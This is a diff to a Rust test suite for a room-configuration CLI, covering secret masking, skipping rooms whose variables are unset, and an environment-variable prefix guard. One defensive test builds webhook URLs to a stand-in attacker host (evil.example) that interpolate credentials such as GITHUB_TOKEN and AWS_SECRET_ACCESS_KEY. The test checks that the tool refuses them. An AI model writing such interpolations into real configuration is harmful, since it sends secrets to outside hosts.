@@ -7,10 +7,10 @@ use crate::harness::Site;
 use crate::schemas::check;
 
 const ROOM: &str =
-    "privacy: private\nmeetingJoinWebhook: https://hooks.example/${env:HOOK_TOKEN}\n";
+    "privacy: private\nmeetingJoinWebhook: https://hooks.example/${env:ROOM_HOOK_TOKEN}\n";
 
 fn token(value: &str) -> Vec<(String, String)> {
-    vec![("HOOK_TOKEN".to_owned(), value.to_owned())]
+    vec![("ROOM_HOOK_TOKEN".to_owned(), value.to_owned())]
 }
 
 fn apply(site: &Site, variables: &[(String, String)]) -> Ran {
@@ -46,7 +46,7 @@ fn a_set_variable_is_sent_and_never_shown() {
     let (code, moved) = plan(&token("canary-token-2"));
     assert_eq!(code, 2);
     assert!(
-        moved.contains("meetingJoinWebhook  ****  changed"),
+        moved.contains("meetingJoinWebhook  https://hooks.example/**** (ROOM_HOOK_TOKEN)  changed"),
         "{moved}"
     );
     site.check_files();
@@ -59,7 +59,7 @@ fn a_set_variable_is_sent_and_never_shown() {
 }
 
 #[test]
-fn an_unset_variable_is_unknown_to_plan_and_refused_by_apply() {
+fn a_room_whose_variable_is_not_set_is_left_out_and_the_others_go_on() {
     let site = site();
     assert_eq!(site.run(&["validate"]).code, 0);
     let plan = site.run(&["plan", "--format", "json"]);
@@ -76,23 +76,36 @@ fn an_unset_variable_is_unknown_to_plan_and_refused_by_apply() {
         ),
         (&json!("****"), &json!(true), &json!(true))
     );
+    let seen = json!({"address": "https://hooks.example/****", "variables": ["ROOM_HOOK_TOKEN"]});
+    assert_eq!(attribute["secret"], seen);
+    assert_eq!(report["needs"], json!(["ROOM_HOOK_TOKEN"]));
+    let known = site.run_with(&token("canary-token"), &["plan", "--format", "json"]);
+    assert_eq!(known.json()["needs"], report["needs"]);
 
     site.room(1, "privacy: public\n");
-    let ran = apply(&site, &[]);
-    assert_eq!(ran.code, 3, "{}", ran.all());
-    assert!(
-        ran.stderr
-            .contains("room-00, meetingJoinWebhook: HOOK_TOKEN is not set"),
-        "{}",
-        ran.stderr
+    for variables in [vec![], token("")] {
+        let ran = apply(&site, &variables);
+        assert_eq!(ran.code, 5, "{}", ran.all());
+        let why = "room-00  variable not set: ROOM_HOOK_TOKEN";
+        assert!(ran.stdout.contains(why), "{}", ran.stdout);
+    }
+    let sent = site.sent(0);
+    assert_eq!(
+        sent.len(),
+        2,
+        "a GET and a POST of the other room: {sent:?}"
     );
-    assert_eq!(site.log().len(), 0, "something was sent");
+    assert!(
+        sent.iter().all(|(_, path)| !path.contains("room-00")),
+        "{sent:?}"
+    );
+    assert_eq!(site.state()["rooms"].as_object().unwrap().len(), 1);
 
     // A room that changes for another reason needs its secrets too: a write is the full set.
     assert_eq!(apply(&site, &token("canary-token")).code, 0);
     site.room(0, &ROOM.replace("private", "public"));
     let before = site.log().len();
-    assert_eq!(apply(&site, &[]).code, 3);
+    assert_eq!(apply(&site, &[]).code, 5);
     assert_eq!(site.log().len(), before);
 
     // Releasing a key sends nothing, and forgets nothing of the secret beside it.
@@ -138,15 +151,21 @@ fn a_look_at_the_service_needs_no_variables_and_a_write_does() {
         world.edit("room-00", "meetingJoinWebhook", moved).unwrap();
     });
     assert_eq!(plan(&[]).0, 2);
+    // What else moved in such a room is drift as in any other.
+    site.edit("room-00", "privacy", json!("public"));
+    let drift = site.run(&["drift", "--rate", "unlimited", "--format", "json"]);
+    assert_eq!(drift.code, 2, "{}", drift.all());
+    let moved = drift.json()["rooms"][0]["attributes"].clone();
+    assert_eq!(
+        (&moved[0]["name"], &moved[1]["name"]),
+        (&json!("meetingJoinWebhook"), &json!("privacy"))
+    );
     let puts = site.count("PUT");
     for how in ["--live", "--drift-only"] {
         let ran = site.run(&["apply", "--yes", "--rate", "unlimited", how]);
-        assert_eq!(ran.code, 3, "{how}: {}", ran.all());
-        assert!(
-            ran.stderr.contains("HOOK_TOKEN is not set"),
-            "{how}: {}",
-            ran.stderr
-        );
+        assert_eq!(ran.code, 5, "{how}: {}", ran.all());
+        let why = "variable not set: ROOM_HOOK_TOKEN";
+        assert!(ran.stdout.contains(why), "{how}: {}", ran.stdout);
     }
     assert_eq!(site.count("PUT"), puts);
     let args = ["apply", "--yes", "--rate", "unlimited", "--drift-only"];
@@ -173,4 +192,196 @@ fn wrong_values_and_references_are_findings() {
         "{}",
         ran.stdout
     );
+}
+
+/// Whatever a file asks for, with everything set: only what begins with the prefix gets a value.
+#[test]
+fn what_no_room_may_have_is_an_error_wherever_it_is_asked_for() {
+    let site = Site::new(&[], &[]);
+    site.room(0, "privacy: private\n");
+    assert_eq!(site.apply(&[]).code, 0);
+    let writes = site.writes();
+    let commands: [&[&str]; 6] = [
+        &["validate"],
+        &["plan"],
+        &["apply", "--yes"],
+        &["drift"],
+        &["show", "room-00"],
+        &["import", "--all"],
+    ];
+    for name in [
+        "TOKEN",
+        "PATH",
+        "room_token",
+        "ROOMCTL_TOKEN",
+        "METERED_SECRET_KEY",
+        "GITHUB_TOKEN",
+        "ACTIONS_RUNTIME_TOKEN",
+        "RUNNER_TEMP",
+        "AWS_SECRET_ACCESS_KEY",
+        "AZURE_CLIENT_SECRET",
+        "GOOGLE_APPLICATION_CREDENTIALS",
+    ] {
+        let variables = [(name.to_owned(), "https://hooks.example/canary".to_owned())];
+        let hook = format!("meetingJoinWebhook: https://evil.example/${{env:{name}}}\n");
+        for (file, text) in [
+            ("rooms/room-00.yaml", format!("privacy: private\n{hook}")),
+            ("rooms/_defaults.yaml", hook.clone()),
+        ] {
+            let before = site.scratch.read("rooms/room-00.yaml");
+            site.scratch.write(file, &text);
+            for command in commands {
+                // Not overwriting the account's own key: the program needs it.
+                let variables = &variables[usize::from(name == "METERED_SECRET_KEY")..];
+                let ran = site.run_with(variables, command);
+                let told = format!("{name} {file} {command:?}: {}", ran.all());
+                assert_eq!(ran.code, 3, "{told}");
+                let place = format!("{file}:{}:", text.lines().count());
+                assert!(ran.all().contains("error[variable-name]"), "{told}");
+                assert!(ran.all().contains(&place), "{told}");
+            }
+            site.scratch.write("rooms/room-00.yaml", &before);
+            let _ = std::fs::remove_file(site.scratch.path("rooms/_defaults.yaml"));
+        }
+    }
+    assert_eq!(site.writes(), writes, "something was sent");
+}
+
+#[test]
+fn another_prefix_comes_from_outside_of_the_files_only() {
+    let site = Site::new(&[], &[]);
+    site.room(
+        0,
+        "privacy: private\nmeetingJoinWebhook: https://h.example/${env:TEAM_TOKEN}\n",
+    );
+    let set = |name: &str, value: &str| (name.to_owned(), value.to_owned());
+    assert_eq!(site.run(&["plan"]).code, 3);
+    assert_eq!(site.run(&["plan", "--env-prefix", "TEAM_"]).code, 0);
+    assert_eq!(
+        site.run_with(&[set("ROOMCTL_ENV_PREFIX", "TEAM_")], &["plan"])
+            .code,
+        0
+    );
+    let both = site.run_with(
+        &[set("ROOMCTL_ENV_PREFIX", "TEAM_")],
+        &["plan", "--env-prefix", "X_"],
+    );
+    assert_eq!(both.code, 3, "the flag wins");
+    assert_eq!(
+        site.run_with(&[set("ROOMCTL_ENV_PREFIX", "")], &["plan"])
+            .code,
+        3,
+        "empty is not set"
+    );
+    for prefix in [
+        "", "R", "GIT", "team_", "GITHUB_", "AWS_X_", "ROOMCTL_", "A-_",
+    ] {
+        let ran = site.run(&["plan", "--env-prefix", prefix]);
+        assert_eq!(ran.code, 64, "{prefix}: {}", ran.all());
+    }
+    site.scratch.write("roomctl.yaml", "env_prefix: TEAM_\n");
+    assert_eq!(
+        site.run(&["plan", "--env-prefix", "TEAM_"]).code,
+        3,
+        "a key that there is not"
+    );
+    site.scratch.write("roomctl.yaml", "");
+    let variables = [set("TEAM_TOKEN", "canary-1")];
+    let args = [
+        "apply",
+        "--yes",
+        "--rate",
+        "unlimited",
+        "--env-prefix",
+        "TEAM_",
+    ];
+    assert_eq!(site.run_with(&variables, &args).code, 0);
+    // What is imported refers to the same.
+    site.remove(0);
+    let args = ["import", "room-00", "--force", "--env-prefix", "TEAM_"];
+    assert_eq!(site.run(&args).code, 0);
+    let file = site.scratch.read("rooms/room-00.yaml");
+    assert!(
+        file.contains("${env:TEAM_ROOM_00_MEETING_JOIN_WEBHOOK}"),
+        "{file}"
+    );
+}
+
+/// Markdown and html with their escapes read.
+fn plain(text: &str) -> String {
+    let mut plain = text.replace("<!-- -->", "");
+    for c in (' '..='~').filter(|c| !c.is_ascii_alphanumeric()) {
+        plain = plain.replace(&format!("&#{};", u32::from(c)), &c.to_string());
+        plain = plain.replace(&format!("&#x{:x};", u32::from(c)), &c.to_string());
+    }
+    plain
+}
+
+/// Scheme, host and the names of variables are seen in every form; path, query, user info and values in none.
+#[test]
+fn where_a_secret_leads_is_shown_and_nothing_else_of_it() {
+    let site = Site::new(&[], &[]);
+    site.scratch.write(
+        "roomctl.yaml",
+        "policies:\n  - id: ours\n    message: ours only\n    severity: warning\n    \
+         expression: room.meetingJoinWebhook.startsWith('https://hooks.example/')\n",
+    );
+    let literal = "https://canary-user:canary-pass@ok.example:8443/canary-path?canary-query#canary";
+    let room = |host: &str| {
+        format!(
+            "privacy: private\nmeetingJoinWebhook: https://{host}/canary-path/${{env:ROOM_A}}?canary=${{env:ROOM_B}}\n\
+             meetingLeftWebhook: {literal}\n"
+        )
+    };
+    site.room(0, &room("hooks.example"));
+    let set = ["ROOM_A", "ROOM_B"].map(|name| (name.to_owned(), "canary-value".to_owned()));
+    for variables in [&set[..], &[]] {
+        for form in ["text", "json", "markdown", "html", "github"] {
+            let ran = site.run_with(variables, &["plan", "--format", form]);
+            assert_eq!(ran.code, 0, "{}", ran.all());
+            let shown = plain(&ran.stdout);
+            for expected in [
+                "https://hooks.example/",
+                "https://ok.example/",
+                "ROOM_A",
+                "ROOM_B",
+            ] {
+                assert!(
+                    form == "github" || shown.contains(expected),
+                    "{form} {expected}: {shown}"
+                );
+            }
+            assert!(
+                form == "json" || shown.contains("apply needs: ROOM_A, ROOM_B"),
+                "{form}: {shown}"
+            );
+            assert!(!ran.all().contains("ours only"), "{}", ran.all());
+        }
+        let show = site.run_with(variables, &["show", "room-00"]);
+        assert!(
+            show.stdout
+                .contains("https://hooks.example/**** (ROOM_A, ROOM_B)"),
+            "{}",
+            show.stdout
+        );
+    }
+    assert_eq!(apply(&site, &set).code, 0);
+    site.room(0, &room("evil.example"));
+    let ran = site.run_with(&set, &["plan"]);
+    assert!(
+        ran.stdout
+            .contains("https://evil.example/**** (ROOM_A, ROOM_B)  changed"),
+        "{}",
+        ran.stdout
+    );
+    assert!(ran.stderr.contains("ours only"), "{}", ran.stderr);
+    let drift = site.run_with(&set, &["drift", "--rate", "unlimited"]);
+    assert!(
+        drift
+            .stdout
+            .contains("https://evil.example/**** (ROOM_A, ROOM_B)"),
+        "{}",
+        drift.stdout
+    );
+    assert!(!site.scratch.read(".roomctl/state.json").contains("canary"));
 }
